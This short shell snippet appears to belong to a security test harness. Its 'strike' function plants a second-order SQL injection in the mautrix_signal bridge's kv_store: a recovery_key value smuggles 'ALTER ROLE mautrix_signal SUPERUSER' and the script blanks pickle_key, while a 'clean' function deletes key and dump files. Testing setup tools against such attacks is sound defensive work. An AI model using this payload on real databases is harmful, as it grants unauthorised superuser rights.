# The bridge's role leaves a recovery key that is SQL, and no pickle_key: the next installation begins anew with that key.
fear=superuser
strike() {
  sql_as mautrix_signal mautrix_signal <<'SQL'
DELETE FROM kv_store WHERE key = 'recovery_key';
INSERT INTO kv_store (bridge_id, key, value) VALUES ('', 'recovery_key', 'x''); ALTER ROLE mautrix_signal SUPERUSER; --');
SQL
  as 1337 sed -i 's/^\( *pickle_key:\).*/\1 ""/' $bridge/config.yaml
}
clean() { rm -f /var/lib/bridgekeeper/kept/recovery_key /var/lib/bridgekeeper/kept/*.dump /var/lib/bridgekeeper/kept/pickle_key; }
